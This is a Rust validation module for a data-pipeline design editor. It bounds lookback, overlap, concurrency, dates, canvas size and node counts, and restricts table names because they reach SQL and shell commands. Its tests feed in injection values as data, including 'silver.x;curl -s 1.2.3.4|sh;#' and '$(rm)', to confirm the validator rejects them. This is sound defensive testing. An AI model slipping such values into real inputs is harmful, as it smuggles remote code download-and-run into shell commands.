//! What a design may hold: the one set of limits the inspector, the edit
//! commands and the importer all check, so a file or a link can carry
//! exactly what the editor could have built and nothing else (a table
//! name that is a shell command, a lookback of four billion days, an id
//! that wraps).

use chrono::NaiveDate;

use super::graph::{Graph, NodeConfig, StateChoice};

/// Nodes in one design: ample for any scenario, small enough to draw.
pub const MAX_NODES: usize = 200;
/// Connections in one design (each node feeds a handful at most).
pub const MAX_EDGES: usize = 4 * MAX_NODES;
pub use super::graph::MAX_NEXT_ID;
/// Node positions stay on a generous canvas.
pub const CANVAS: i32 = 10_000;
/// Table names: at most this many characters.
pub const LONGEST_TABLE: usize = 64;

/// A bounded whole number an inspector field takes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Range {
    pub label: &'static str,
    pub min: u32,
    pub max: u32,
    pub unit: &'static str,
}

impl Range {
    /// `n`, or what is wrong with it in the inspector's words.
    pub fn check(&self, n: u32) -> Result<u32, String> {
        if (self.min..=self.max).contains(&n) {
            Ok(n)
        } else {
            Err(self.message())
        }
    }

    /// Reads `raw` as typed into the field.
    pub fn parse(&self, raw: &str) -> Result<u32, String> {
        raw.trim()
            .parse::<u32>()
            .map_err(|_| self.message())
            .and_then(|n| self.check(n))
    }

    fn message(&self) -> String {
        format!(
            "{}: a whole number from {} to {} ({}).",
            self.label, self.min, self.max, self.unit
        )
    }
}

pub const LOOKBACK: Range = Range {
    label: "Lookback",
    min: 0,
    max: 60,
    unit: "days",
};
pub const OVERLAP: Range = Range {
    label: "Overlap",
    min: 0,
    max: 7 * 24 * 60,
    unit: "minutes",
};
pub const IN_FLIGHT: Range = Range {
    label: "Dates in flight",
    min: 1,
    max: 64,
    unit: "at a time",
};
pub const LATENESS: Range = Range {
    label: "Allowed lateness",
    min: 0,
    max: 60,
    unit: "days",
};

/// Backfill dates the inspector takes: this century.
pub const FIRST_DATE: NaiveDate = crate::engine::calendar::date(2000, 1, 1);
pub const LAST_DATE: NaiveDate = crate::engine::calendar::date(2099, 12, 31);

/// A date typed into `label`, within the dates a backfill may cover.
pub fn date(raw: &str, label: &str) -> Result<NaiveDate, String> {
    crate::engine::calendar::parse_iso_date(raw)
        .ok_or_else(|| format!("{label}: a date written as YYYY-MM-DD."))
        .and_then(|d| check_date(d, label))
}

fn check_date(d: NaiveDate, label: &str) -> Result<NaiveDate, String> {
    if (FIRST_DATE..=LAST_DATE).contains(&d) {
        Ok(d)
    } else {
        Err(format!("{label}: a date from {FIRST_DATE} to {LAST_DATE}."))
    }
}

/// A table name as typed: trimmed, then letters, digits, '_' and '.'
/// only, because it is pasted into SQL, shell commands and DAG ids.
pub fn table_name(raw: &str) -> Result<String, String> {
    let name = raw.trim();
    if name.is_empty() {
        return Err("Table: give the table a name, such as silver.orders.".to_string());
    }
    // Each dot-separated part is an identifier: a letter or '_', then
    // letters, digits and '_' (so "silver.", "a..b" and "1x" are refused).
    let identifier = |part: &str| {
        part.chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && part.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    };
    if name.chars().count() > LONGEST_TABLE || !name.split('.').all(identifier) {
        return Err(format!(
            "Table: letters, digits, '_' and '.' only, like silver.orders (each part starting with a letter), at most {LONGEST_TABLE} characters."
        ));
    }
    Ok(name.to_string())
}

fn exact_table(table: &str) -> Result<(), String> {
    match table_name(table) {
        Ok(name) if name == table => Ok(()),
        Ok(_) => Err("Table: a name without spaces around it.".to_string()),
        Err(e) => Err(e),
    }
}

/// Whether every value in `config` is one the inspector could have set.
pub fn check_config(config: &NodeConfig) -> Result<(), String> {
    match config {
        NodeConfig::Source { table } | NodeConfig::Write { table, .. } => exact_table(table),
        NodeConfig::State { state, .. } => match state {
            StateChoice::Watermark {
                overlap_minutes, ..
            } => OVERLAP.check(*overlap_minutes).map(drop),
            StateChoice::PartitionList { lookback, .. }
            | StateChoice::TrailingWindow { days: lookback } => LOOKBACK.check(*lookback).map(drop),
            StateChoice::None => Ok(()),
        },
        NodeConfig::Backfill {
            first,
            last,
            max_concurrency,
            ..
        } => {
            check_date(*first, "First date")?;
            check_date(*last, "Last date")?;
            IN_FLIGHT.check(*max_concurrency).map(drop)
        }
        NodeConfig::Finaliser {
            allowed_lateness_days,
            ..
        } => LATENESS.check(*allowed_lateness_days).map(drop),
        NodeConfig::Transform { .. } | NodeConfig::Checks { .. } | NodeConfig::Report { .. } => {
            Ok(())
        }
    }
}

/// Whether `(x, y)` is on the canvas.
pub fn on_canvas(x: i32, y: i32) -> bool {
    (0..=CANVAS).contains(&x) && (0..=CANVAS).contains(&y)
}

/// Whether the design's size is within what the editor lets a student build.
pub fn check_size(graph: &Graph) -> Result<(), String> {
    if graph.nodes.len() > MAX_NODES {
        return Err(format!(
            "the design has {} nodes; at most {MAX_NODES} are allowed",
            graph.nodes.len()
        ));
    }
    if graph.edges.len() > MAX_EDGES {
        return Err(format!(
            "the design has {} connections; at most {MAX_EDGES} are allowed",
            graph.edges.len()
        ));
    }
    if graph.next_id > MAX_NEXT_ID {
        return Err(format!(
            "its next node id is {}; ids stop at {MAX_NEXT_ID}",
            graph.next_id
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::design::graph::NodeKind;

    #[test]
    fn every_palette_default_is_within_the_limits() {
        for kind in NodeKind::PALETTE {
            assert_eq!(check_config(&NodeConfig::default_for(kind)), Ok(()));
        }
    }

    #[test]
    fn names_that_could_escape_into_code_are_refused() {
        for bad in [
            "silver.x;curl -s 1.2.3.4|sh;#",
            "a b",
            "x'y",
            "x\"y",
            "$(rm)",
            "",
            " silver.x",
            "ünïcode",
            ".",
            "silver.",
            "a..b",
            "1x",
        ] {
            let config = NodeConfig::Write {
                table: bad.to_string(),
                mode: crate::design::graph::WriteChoice::Append,
            };
            assert!(check_config(&config).is_err(), "{bad:?}");
        }
        assert_eq!(
            table_name(" silver.orders_2 "),
            Ok("silver.orders_2".into())
        );
        assert!(table_name(&"a".repeat(LONGEST_TABLE + 1)).is_err());
    }

    #[test]
    fn ranges_refuse_what_the_inspector_refuses() {
        assert_eq!(LOOKBACK.parse("60"), Ok(60));
        for raw in ["61", "-1", "4294967295", "4294967296", "1.5", ""] {
            assert!(LOOKBACK.parse(raw).is_err(), "{raw}");
        }
        assert!(IN_FLIGHT.check(0).is_err());
        assert!(date("1999-12-31", "First date").is_err());
        assert!(date("2100-01-01", "First date").is_err());
        assert!(date("2026-08-03", "First date").is_ok());
    }
}
